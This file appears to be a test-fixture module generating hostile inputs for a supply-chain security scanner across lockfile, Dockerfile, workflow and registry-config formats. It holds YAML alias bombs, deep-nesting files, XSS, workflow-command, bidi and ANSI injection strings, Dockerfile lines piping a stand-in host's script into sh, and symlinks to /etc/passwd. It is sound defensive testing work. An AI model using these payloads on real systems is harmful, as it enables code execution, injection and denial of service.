/**
 * The hostile inputs, generated from tables: one row per (format, attack). Each case says how it
 * must be handled; `hostile.test.ts` runs them through the CLI in every output format.
 */
import type { HostileCase } from './harness.js';
import { OUTSIDE_CANARY } from './harness.js';

const D = 'sha256:' + 'a'.repeat(64);
const SHA = 'a'.repeat(40);
const PINNED_DOCKERFILE = `FROM node:20.11.1@${D}\nUSER node\n`;

/** Minimal valid files of every format Bulkhead parses, and how each is attacked. */
interface Format {
  path: string;
  /** A small valid file (no finding of its own at `high`). */
  valid: string;
  /** The file cut in the middle of a structure: must be a parse error. Absent: line formats. */
  truncated?: string;
  /** Nesting far past any sane depth. */
  deep?: string;
  /** YAML formats: an alias bomb. */
  yaml?: boolean;
  sizeCap: number;
}

const LOCK_V3 = `${JSON.stringify(
  {
    name: 'app',
    version: '1.0.0',
    lockfileVersion: 3,
    requires: true,
    packages: {
      '': { name: 'app', version: '1.0.0', dependencies: { ms: '2.1.3' } },
      'node_modules/ms': {
        version: '2.1.3',
        resolved: 'https://registry.npmjs.org/ms/-/ms-2.1.3.tgz',
        integrity: 'sha512-' + 'A'.repeat(86) + '==',
      },
    },
  },
  null,
  2,
)}\n`;

const MB = 1 << 20;
const jsonDeep = `{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}\n`;
const yamlDeep = `a: ${'['.repeat(50_000)}${']'.repeat(50_000)}\n`;
const tomlDeep = `a = ${'['.repeat(50_000)}${']'.repeat(50_000)}\n`;

export const FORMATS: Format[] = [
  {
    path: 'package-lock.json',
    valid: LOCK_V3,
    truncated: LOCK_V3.slice(0, 200),
    deep: jsonDeep,
    sizeCap: 64 * MB,
  },
  {
    path: 'Pipfile.lock',
    valid: `{"_meta": {"hash": {"sha256": "${'a'.repeat(64)}"}, "pipfile-spec": 6, "requires": {}, "sources": [{"name": "pypi", "url": "https://pypi.org/simple", "verify_ssl": true}]}, "default": {"requests": {"hashes": ["sha256:${'b'.repeat(64)}"], "version": "==2.32.3"}}, "develop": {}}\n`,
    truncated: '{"_meta": {"hash": ',
    deep: jsonDeep,
    sizeCap: 64 * MB,
  },
  {
    path: 'composer.lock',
    valid: `{"packages": [{"name": "monolog/monolog", "version": "3.5.0", "dist": {"type": "zip", "url": "https://api.github.com/repos/Seldaek/monolog/zipball/${SHA}", "reference": "${SHA}", "shasum": ""}}], "packages-dev": []}\n`,
    truncated: '{"packages": [{"name": ',
    deep: jsonDeep,
    sizeCap: 64 * MB,
  },
  {
    path: 'bun.lock',
    valid: `{\n  "lockfileVersion": 1,\n  "workspaces": { "": { "name": "app", "dependencies": { "ms": "2.1.3" } } },\n  "packages": {\n    "ms": ["ms@2.1.3", "", {}, "sha512-${'A'.repeat(86)}=="],\n  }\n}\n`,
    truncated: '{\n  "lockfileVersion": 1,\n  "packages": {\n    "ms": ["ms@',
    deep: jsonDeep,
    sizeCap: 64 * MB,
  },
  {
    path: 'pnpm-lock.yaml',
    valid: `lockfileVersion: '9.0'\n\nimporters:\n  .:\n    dependencies:\n      ms:\n        specifier: 2.1.3\n        version: 2.1.3\n\npackages:\n  ms@2.1.3:\n    resolution: {integrity: sha512-${'A'.repeat(86)}==}\n\nsnapshots:\n  ms@2.1.3: {}\n`,
    truncated: `lockfileVersion: '9.0'\npackages:\n  ms@2.1.3:\n    resolution: {integrity: "sha512-`,
    deep: yamlDeep,
    yaml: true,
    sizeCap: 64 * MB,
  },
  {
    path: 'yarn.lock',
    valid: `__metadata:\n  version: 8\n  cacheKey: 10c0\n\n"ms@npm:2.1.3":\n  version: 2.1.3\n  resolution: "ms@npm:2.1.3"\n  checksum: 10c0/${'a'.repeat(128)}\n  languageName: node\n  linkType: hard\n`,
    truncated: `__metadata:\n  version: 8\n\n"ms@npm:2.1.3":\n  version: "2.1.3\n  resolution: [\n`,
    deep: `__metadata:\n  version: 8\n${yamlDeep}`,
    yaml: true,
    sizeCap: 64 * MB,
  },
  {
    path: 'poetry.lock',
    valid: `[[package]]\nname = "requests"\nversion = "2.32.3"\ndescription = ""\noptional = false\npython-versions = ">=3.8"\nfiles = [\n    {file = "requests-2.32.3.tar.gz", hash = "sha256:${'b'.repeat(64)}"},\n]\n\n[metadata]\nlock-version = "2.0"\npython-versions = "^3.11"\ncontent-hash = "${'c'.repeat(64)}"\n`,
    truncated: `[[package]]\nname = "requests\nversion = [\n`,
    deep: tomlDeep,
    sizeCap: 64 * MB,
  },
  {
    path: 'uv.lock',
    valid: `version = 1\nrequires-python = ">=3.11"\n\n[[package]]\nname = "requests"\nversion = "2.32.3"\nsource = { registry = "https://pypi.org/simple" }\nsdist = { url = "https://files.pythonhosted.org/packages/r/requests-2.32.3.tar.gz", hash = "sha256:${'b'.repeat(64)}" }\n`,
    truncated: `version = 1\n[[package]\nname = "requests"\n`,
    deep: tomlDeep,
    sizeCap: 64 * MB,
  },
  {
    path: 'Cargo.lock',
    valid: `version = 3\n\n[[package]]\nname = "serde"\nversion = "1.0.200"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "${'d'.repeat(64)}"\n`,
    truncated: `version = 3\n\n[[package]]\nname = "serde\n`,
    deep: tomlDeep,
    sizeCap: 64 * MB,
  },
  {
    path: 'bunfig.toml',
    valid: `[install]\nregistry = "https://registry.npmjs.org/"\n`,
    truncated: `[install\nregistry = "https://`,
    deep: tomlDeep,
    sizeCap: MB,
  },
  {
    path: '.yarnrc.yml',
    valid: `nodeLinker: node-modules\nenableScripts: false\n`,
    truncated: `nodeLinker: [node-modules\nenableScripts: "false\n`,
    deep: yamlDeep,
    yaml: true,
    sizeCap: MB,
  },
  {
    path: '.github/workflows/ci.yml',
    valid: `on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo hi\n`,
    truncated: `on: push\njobs:\n  build:\n    steps: [\n      - run: "echo\n`,
    deep: `on: push\n${yamlDeep}`,
    yaml: true,
    sizeCap: MB,
  },
  {
    path: 'action.yml',
    valid: `name: x\ndescription: y\nruns:\n  using: composite\n  steps:\n    - run: echo hi\n      shell: bash\n`,
    truncated: `name: x\nruns:\n  using: [composite\n`,
    deep: yamlDeep,
    yaml: true,
    sizeCap: MB,
  },
  {
    path: '.github/dependabot.yml',
    valid: `version: 2\nupdates:\n  - package-ecosystem: npm\n    directory: /\n    schedule:\n      interval: weekly\n`,
    truncated: `version: 2\nupdates:\n  - package-ecosystem: [npm\n`,
    deep: yamlDeep,
    yaml: true,
    sizeCap: MB,
  },
  // Line formats: no structure to cut, attacked by line endings, encodings and sizes.
  { path: 'Dockerfile', valid: PINNED_DOCKERFILE, sizeCap: MB },
  { path: 'requirements.txt', valid: `requests==2.32.3 --hash=sha256:${'b'.repeat(64)}\n`, sizeCap: 64 * MB },
  { path: 'go.sum', valid: `golang.org/x/text v0.14.0 h1:${'A'.repeat(43)}=\n`, sizeCap: 64 * MB },
  {
    path: 'Gemfile.lock',
    valid: `GEM\n  remote: https://rubygems.org/\n  specs:\n    rake (13.1.0)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  rake\n`,
    sizeCap: 64 * MB,
  },
  {
    path: 'yarn-classic/yarn.lock',
    valid: `# yarn lockfile v1\n\n\nms@2.1.3:\n  version "2.1.3"\n  resolved "https://registry.yarnpkg.com/ms/-/ms-2.1.3.tgz#${'e'.repeat(40)}"\n  integrity sha512-${'A'.repeat(86)}==\n`,
    sizeCap: 64 * MB,
  },
  { path: '.npmrc', valid: `registry=https://registry.npmjs.org/\nignore-scripts=true\n`, sizeCap: MB },
  { path: '.yarnrc', valid: `registry "https://registry.yarnpkg.com"\n`, sizeCap: MB },
  { path: 'pip.conf', valid: `[global]\nindex-url = https://pypi.org/simple\n`, sizeCap: MB },
  { path: '.pypirc', valid: `[distutils]\nindex-servers = pypi\n`, sizeCap: MB },
];

const ALIAS_BOMB = [
  'a: &a ["x","x","x","x","x","x","x","x","x"]',
  'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
  'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
  'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
  'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
  'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
  'g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
  'h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]',
  'i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]',
  '',
].join('\n');

function withNul(text: string): Buffer {
  const b = Buffer.from(text);
  return Buffer.concat([b.subarray(0, 10), Buffer.from([0]), b.subarray(10)]);
}

/** Generated rows: every format × every attack that applies to it. */
export function formatCases(): HostileCase[] {
  const out: HostileCase[] = [];
  for (const f of FORMATS) {
    const at = (rule: string, line = 1, col = 1) => `${rule} ${f.path} ${line} ${col}`;
    out.push({ name: `${f.path}: valid`, files: { [f.path]: f.valid }, exit: 0, couldNotCheck: [] });
    out.push({
      name: `${f.path}: a NUL byte`,
      files: { [f.path]: withNul(f.valid) },
      exit: 1,
    });
    out.push({
      name: `${f.path}: one byte over its size cap`,
      files: { [f.path]: Buffer.alloc(f.sizeCap + 1, 0x20) },
      exit: 1,
      couldNotCheck: [at('scan/file-too-large')],
    });
    out.push({
      name: `${f.path}: BOM and CRLF line ends`,
      files: { [f.path]: '\ufeff' + f.valid.replace(/\n/g, '\r\n') },
      exit: 0,
      couldNotCheck: [],
    });
    out.push({
      name: `${f.path}: invalid UTF-8`,
      files: { [f.path]: Buffer.concat([Buffer.from(f.valid), Buffer.from([0xc3, 0x28, 0xff, 0xfe, 0x0a])]) },
      // Decoded with U+FFFD as the package managers do: what that text means decides the outcome.
    });
    if (f.truncated !== undefined)
      out.push({
        name: `${f.path}: cut in the middle of a structure`,
        files: { [f.path]: f.truncated },
        exit: 1,
      });
    if (f.deep !== undefined)
      out.push({
        name: `${f.path}: nested 50,000 deep`,
        // JSON parsers here are iterative: the nesting goes inside a valid file, which must still pass.
        files: {
          [f.path]:
            f.deep === jsonDeep ? f.valid.replace(/^\{/, `{"deep": ${jsonDeep.slice(5, -2)},`) : f.deep,
        },
      });
    if (f.yaml)
      out.push({ name: `${f.path}: billion-laughs aliases`, files: { [f.path]: ALIAS_BOMB }, exit: 1 });
  }
  return out;
}

/** What an attacker can put in a name or a quoted value. */
export const PAYLOAD =
  '::error file=x::pwned%0A::warning::x <img src=x onerror=alert(1)> </details>| `x` \u202eevil\u2066 \x1b[31mred\x1b]8;;http://e.x\x07 [a](javascript:alert(1))';
const WORD = 'x::error::pwned<img/src=x>\u202e\x1b[2J';

const OUTSIDE_DOCKERFILE = `# ${OUTSIDE_CANARY}\nFROM ${OUTSIDE_CANARY.toLowerCase()}\n`;

/** Hand-written rows: injection through every quoted value, escapes out of the tree, config, CLI. */
export function specialCases(): HostileCase[] {
  return [
    // Injection: values the messages quote, and file names.
    {
      // Docker refuses such a reference, so nothing can be built from it; nothing may leak either.
      name: 'injection: an image reference with commands, HTML, bidi and ANSI',
      files: { Dockerfile: `FROM ${WORD}\nUSER node\n` },
      exit: 0,
      couldNotCheck: [],
    },
    {
      name: 'injection: remote script URL and RUN text',
      files: {
        Dockerfile: `FROM node:20.11.1@${D}\nRUN curl -fsSL "http://e.x/${encodeURI(WORD)}?${PAYLOAD.replace(/"/g, '')}" | sh\nUSER node\n`,
      },
      exit: 1,
      couldNotCheck: [],
    },
    {
      name: 'injection: lockfile package name and resolved URL',
      files: {
        'package-lock.json': JSON.stringify({
          lockfileVersion: 3,
          packages: {
            '': { name: 'app' },
            [`node_modules/${PAYLOAD}`]: {
              version: PAYLOAD,
              resolved: `http://e.x/${PAYLOAD}`,
              integrity: PAYLOAD,
            },
          },
        }),
      },
      exit: 1,
      couldNotCheck: [],
    },
    {
      name: 'injection: requirements line',
      files: {
        'requirements.txt': `${WORD} @ http://e.x/${encodeURI(PAYLOAD)}\n--index-url http://${WORD}/simple\n`,
      },
      exit: 1,
      couldNotCheck: [],
    },
    {
      name: 'injection: .npmrc registry and token',
      files: { '.npmrc': `registry=http://e.x/${PAYLOAD}\n//e.x/:_authToken=${PAYLOAD}\n` },
      exit: 1,
      couldNotCheck: [],
    },
    {
      name: 'injection: workflow uses and run',
      files: {
        '.github/workflows/ci.yml': `on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: ${JSON.stringify(`evil/${WORD}@main`)}\n      - run: echo\n`,
        '.github/workflows/b.yml': `on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@main\n      - run: ${JSON.stringify(`echo "\${{ github.event.pull_request.title }}" ${PAYLOAD}`)}\n`,
      },
      exit: 1,
    },
    {
      name: 'injection: file name with HTML and bidi',
      files: { ['Dockerfile.a<img src=x onerror=alert(1)>\u202e']: 'FROM node\n' },
      exit: 1,
      couldNotCheck: [],
    },
    {
      name: 'injection: file name with a newline and a workflow command',
      files: { ['Dockerfile.a\n::error::pwned']: 'FROM node\n' },
      exit: 1,
      couldNotCheck: [],
    },
    {
      name: 'injection: inline ignore reason with a payload',
      files: {
        Dockerfile: `# bulkhead-ignore dockerfile/base-image-latest -- ${PAYLOAD}\nFROM node\nUSER node\n`,
      },
      exit: 0,
      couldNotCheck: [],
    },
    // Huge values.
    {
      // Past the shell parser's 64,000-character bound: checked as far as it goes, and said so.
      name: 'huge: a 70,000-character RUN line',
      files: { Dockerfile: `FROM node:20.11.1@${D}\nRUN echo ${'a'.repeat(70_000)}\nUSER node\n` },
      exit: 1,
      couldNotCheck: [],
    },
    {
      name: 'huge: 5,000 backslash continuations (under the shell bounds: checked in full)',
      files: {
        Dockerfile: `FROM node:20.11.1@${D}\nRUN echo \\\n${'  a \\\n'.repeat(5_000)}  end\nUSER node\n`,
      },
      exit: 0,
      couldNotCheck: [],
    },
    {
      name: 'huge: numbers past double precision in a lockfile',
      files: {
        'package-lock.json': `{"lockfileVersion": 1e400, "packages": {"": {"name": "a"}, "node_modules/ms": {"version": "99999999999999999999999.0.0", "resolved": "https://registry.npmjs.org/ms/-/ms-99999999999999999999999.0.0.tgz", "integrity": "sha512-${'A'.repeat(86)}=="}}}\n`,
      },
      // Strings, however long their digits; 1e400 is Infinity, a version like any other here.
      exit: 0,
      couldNotCheck: [],
    },
    {
      name: 'huge: 5,000 stages',
      files: { Dockerfile: `FROM node:20.11.1@${D} AS s\n${'FROM s\n'.repeat(5_000)}USER node\n` },
      exit: 0,
      couldNotCheck: [],
    },
    {
      name: 'line ends: CR only',
      files: { Dockerfile: `FROM node\rUSER node\rRUN curl http://e.x/i.sh | sh\r` },
      exit: 1,
      couldNotCheck: [],
    },
    // Nothing outside the tree is read.
    {
      name: 'escape: a Dockerfile linked out of the tree',
      files: {},
      outside: { Dockerfile: OUTSIDE_DOCKERFILE },
      links: { Dockerfile: '../outside/Dockerfile' },
      exit: 1,
      couldNotCheck: ['scan/symlink-skipped Dockerfile 1 1'],
    },
    {
      name: 'escape: a folder linked out of the tree',
      files: { Dockerfile: PINNED_DOCKERFILE },
      outside: { Dockerfile: OUTSIDE_DOCKERFILE },
      links: { svc: '../outside' },
      exit: 1,
      couldNotCheck: ['scan/symlink-skipped svc 1 1'],
    },
    {
      name: 'escape: an absolute link to a system file',
      files: {},
      links: { 'requirements.txt': '/etc/passwd' },
      exit: 1,
      couldNotCheck: ['scan/symlink-skipped requirements.txt 1 1'],
    },
    {
      name: 'escape: COPY and ADD sources with ../',
      files: {
        'app/Dockerfile': `FROM node:20.11.1@${D}\nCOPY ../outside/package-lock.json ../../outside/ /app/\nADD ../outside/Dockerfile /x\nCOPY --from=../outside / /\nUSER node\n`,
      },
      outside: { 'package-lock.json': OUTSIDE_CANARY, Dockerfile: OUTSIDE_DOCKERFILE },
      exit: 0,
      couldNotCheck: [],
    },
    {
      name: 'escape: .dockerignore re-including ../ and a pattern of 5,000 globstars',
      files: {
        Dockerfile: `FROM node:20.11.1@${D}\nCOPY . /app\nUSER node\n`,
        '.dockerignore': `*\n!../outside\n!../outside/**\n!/../../etc/passwd\n${'**/'.repeat(5000)}x\n${'[a-'.repeat(3000)}\n`,
        'package-lock.json': LOCK_V3,
      },
      outside: { 'package-lock.json': OUTSIDE_CANARY },
      exit: 0,
      couldNotCheck: [],
    },
    {
      name: 'escape: config paths pointing out of the tree',
      files: {
        '.bulkhead.yml': `paths:\n  include:\n    - ../outside/**\n    - /etc/**\n    - '**'\n`,
        Dockerfile: PINNED_DOCKERFILE,
      },
      outside: { Dockerfile: OUTSIDE_DOCKERFILE },
      exit: 0,
      couldNotCheck: [],
    },
    // .bulkhead.yml: a bad config is exit 2 with one clean stderr line.
    {
      name: 'config: billion-laughs aliases',
      files: { '.bulkhead.yml': ALIAS_BOMB, Dockerfile: PINNED_DOCKERFILE },
      exit: 2,
    },
    {
      name: 'config: nested 50,000 deep',
      files: { '.bulkhead.yml': yamlDeep, Dockerfile: PINNED_DOCKERFILE },
      exit: 2,
    },
    {
      name: 'config: a huge number and a payload as values',
      files: {
        '.bulkhead.yml': `fail-on: 1e999\nrules:\n  ${JSON.stringify(PAYLOAD)}: off\n`,
        Dockerfile: PINNED_DOCKERFILE,
      },
      exit: 2,
    },
    {
      name: 'config: a NUL byte',
      files: { '.bulkhead.yml': withNul('fail-on: critical\nrules: {}\n'), Dockerfile: PINNED_DOCKERFILE },
      exit: 2,
    },
    {
      name: 'config: BOM and CRLF are read',
      files: { '.bulkhead.yml': '\ufefffail-on: critical\r\n', Dockerfile: 'FROM node\r\nUSER node\r\n' },
      exit: 0,
      couldNotCheck: [],
    },
    {
      name: 'config: invalid UTF-8 in an ignore reason',
      files: {
        '.bulkhead.yml': Buffer.concat([
          Buffer.from('ignore:\n  - rule: dockerfile/base-image-latest\n    reason: "'),
          Buffer.from([0xff, 0xfe, 0xc3]),
          Buffer.from('"\n'),
        ]),
        Dockerfile: 'FROM node\nUSER node\n',
      },
      exit: 0,
      couldNotCheck: [],
    },
    // CLI exit codes.
    {
      name: 'cli: --fail-on never with blocking findings',
      files: { Dockerfile: 'FROM node\n' },
      args: ['--fail-on', 'never'],
      exit: 0,
      couldNotCheck: [],
    },
    {
      name: 'cli: an unknown flag',
      files: { Dockerfile: PINNED_DOCKERFILE },
      args: ['--fail-onn', 'high'],
      exit: 2,
    },
    {
      name: 'cli: --type for an unrecognised name',
      files: { 'build.txt': 'FROM node\n' },
      args: ['build.txt', '--type', 'dockerfile'],
      exit: 1,
      couldNotCheck: [],
    },
  ];
}
